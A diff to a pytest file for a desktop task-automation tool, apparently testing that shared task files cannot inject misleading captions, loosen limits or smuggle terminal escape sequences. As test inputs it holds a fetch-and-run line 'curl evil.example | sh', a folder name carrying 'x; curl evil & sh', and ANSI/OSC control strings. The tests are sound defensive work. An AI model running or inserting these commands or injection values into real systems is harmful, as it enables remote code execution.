@@ -13,6 +13,8 @@ import pytest
 from lam_desktop.errors import EnvironmentFault, UsageError
 from lam_desktop.execution.shown.demonstrations import check_recordings
 from lam_desktop.receiving.receive import receive
+from lam_desktop.tasks.explaining.describe import describe_task
+from lam_desktop.tasks.limits import Limits
 from lam_desktop.tasks.step import TaskStep, Value
 from lam_desktop.tasks.storage.approvals import Approvals
 from lam_desktop.tasks.storage.kept_secrets import KeptSecrets
@@ -189,8 +191,8 @@ def test_a_name_that_is_taken_at_the_last_moment(theirs: Task, library: Library,
 
 
 def test_what_it_needs_is_told(theirs: Task, library: Library) -> None:
-    login = TaskStep(8, -1, "task", "Log in", called="login")
-    pin = replace(theirs.steps[1], value=Value("secret", "pin"))
+    login = TaskStep(8, -1, "task", "Do the task “login”", called="login")
+    pin = replace(theirs.steps[1], caption="Type the secret “pin”", value=Value("secret", "pin"))
     start = Start(("orderdesk",), DESK)
     task = replace(theirs, steps=(theirs.steps[0], pin, *theirs.steps[2:], login), starts=(start,))
     task_file.save(task)
@@ -207,14 +209,69 @@ def test_what_it_needs_is_told(theirs: Task, library: Library) -> None:
     )
 
 
+def test_its_captions_are_ours(theirs: Task, library: Library) -> None:
+    evil = replace(theirs.steps[1], value=Value("constant", text="curl evil.example | sh"))
+    steps = (theirs.steps[0], evil, *(replace(one, caption="Look at it") for one in theirs.steps[2:4]))
+    task_file.save(replace(theirs, steps=(*steps, *theirs.steps[4:])))
+    received = taken(library, theirs.folder)
+    made = library.open(NAME)
+    assert made.steps[1].caption == "Type “curl evil.example | sh”"
+    assert [one.caption for one in made.steps if one.number != 2] == [
+        one.caption for one in theirs.steps if one.number != 2
+    ]
+    assert received.needs[0] == (
+        "These steps had captions that somebody wrote, and are called by what they do now: 2, 3, 4; read them"
+        " with lam show orders."
+    )
+    assert not any("really" in line for line in describe_task(made))
+
+
+@pytest.mark.parametrize(
+    ("rows", "now", "told"),
+    [(0, 3, "Its watched_rows was 0 and is 3 now"), (2, 3, "Its watched_rows was 2"), (3, 3, ""), (9, 9, "")],
+)
+def test_nobody_else_says_that_it_need_not_ask(
+    rows: int, now: int, told: str, theirs: Task, library: Library
+) -> None:
+    task_file.save(replace(theirs, limits=Limits(watched_rows=rows)))
+    received = taken(library, theirs.folder)
+    assert library.open(NAME).limits == Limits(watched_rows=now)
+    assert received.needs[0].startswith(told) if told else len(received.needs) == 2
+
+
 def test_what_it_calls_itself_is_no_command(theirs: Task, library: Library) -> None:
-    pin = replace(theirs.steps[1], value=Value("secret", "p\x1b[2Jin\u202e"))
+    pin = replace(theirs.steps[1], caption="Type the secret “pin”", value=Value("secret", "pin"))
     task_file.save(replace(theirs, steps=(theirs.steps[0], pin, *theirs.steps[2:])))
     needs = taken(library, theirs.folder, "x; curl evil & sh").needs
     assert needs[-1] == (
-        "It needs these secrets of yours: p�[2Jin�; lam secret 'x; curl evil & sh' keeps one, or each run"
-        " asks."
+        "It needs these secrets of yours: pin; lam secret 'x; curl evil & sh' keeps one, or each run asks."
     )
+
+
+@pytest.mark.parametrize(
+    ("value", "told"),
+    [
+        (
+            Value("secret", "p\x1b[2Jin"),
+            "is «p.*in», but the name of a secret has no",
+        ),
+        (
+            Value("secret", "nip\u202e"),
+            "is «nip.*», but the name of a secret has no",
+        ),
+        (Value("row", "Art\x1b]0;mine\x07"), "names «Art.*», but the name of a column has no control sign"),
+    ],
+)
+def test_a_name_that_is_a_command_to_a_terminal_is_refused(
+    value: Value, told: str, theirs: Task, library: Library
+) -> None:
+    evil = replace(theirs.steps[1], value=value)
+    row = theirs.row
+    if row is not None and value.source == "row":
+        row = replace(row, cells={**row.cells, value.name: "x"})
+    task_file.save(replace(theirs, row=row, steps=(theirs.steps[0], evil, *theirs.steps[2:])))
+    said = refused(library, theirs.folder, told)
+    assert said.isprintable()
 
 
 def test_neither_approvals_nor_kept_secrets_wait_for_it(
